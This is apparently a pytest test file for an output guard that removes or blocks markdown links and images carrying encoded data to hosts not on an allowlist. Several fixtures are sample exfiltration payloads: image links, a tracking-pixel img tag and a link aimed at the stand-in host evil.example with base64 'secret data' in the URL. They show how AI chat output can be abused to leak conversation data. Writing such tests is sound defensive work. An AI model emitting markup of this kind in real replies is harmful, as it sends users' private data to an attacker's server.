"""Exfiltration links and images: data-carrying URLs to non-allowlisted hosts are removed or blocked."""

from __future__ import annotations

import pytest

from guards.output import OutputChain, StreamContext
from guards.output.exfil import carries_data, host_allowed
from schemas.output_guard_config import ExfilConfig, OutputPolicy

CHAIN = OutputChain.from_config(OutputPolicy(exfil=ExfilConfig(allow_hosts=("docs.example.com",))))
DATA = "c2VjcmV0IGRhdGEgaGVyZSBwbGVhc2U="


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"![a](https://evil.example/x.png?d={DATA})", "[image removed]"),
        ("![logo](https://cdn.other.net/logo.png)", "[image removed]"),  # images: any URL off-list
        (f"[click](https://evil.example/c?q={DATA})", "[link removed]"),
        ("[click](https://evil.example/collect/secret%20data%20from%20the%20chat)", "[link removed]"),
        ('<img src="https://evil.example/p?d=' + DATA + '" width=1>', "[image removed]"),
        ("[guide](https://docs.example.com/guide?token=" + DATA + ")", None),
        ("![d](https://img.docs.example.com/a.png)", None),  # subdomain of an allowlisted host
        ("[home](https://www.python.org/downloads/)", None),  # a plain link carries no data
        ("a [note] (not a link) and ![alt] text", None),
    ],
)
def test_links(text: str, expected: str | None) -> None:
    step = CHAIN.apply(f"before {text} after", StreamContext())
    assert step.text == f"before {expected if expected is not None else text} after"


def test_request_allowlist_and_block_mode() -> None:
    text = f"![a](https://files.acme.test/x.png?d={DATA})"
    ctx = StreamContext(allowed_hosts=("acme.test",))
    assert CHAIN.apply(text, ctx).text == text
    blocking = OutputChain.from_config(OutputPolicy(exfil=ExfilConfig(action="block")))
    step = blocking.apply(f"ok {text}", StreamContext())
    assert step.block is not None
    assert step.block.rule == "exfil.image"
    assert step.text == "ok "


def test_helpers() -> None:
    allowed = frozenset({"example.com"})
    assert host_allowed("a.b.example.com", allowed)
    assert not host_allowed("example.com.evil.net", allowed)
    assert not host_allowed("notexample.com", allowed)
    assert carries_data(f"https://x.test/a?d={DATA}")
    assert carries_data("https://x.test/" + "a" * 60)
    assert not carries_data("https://x.test/docs/page?lang=en")
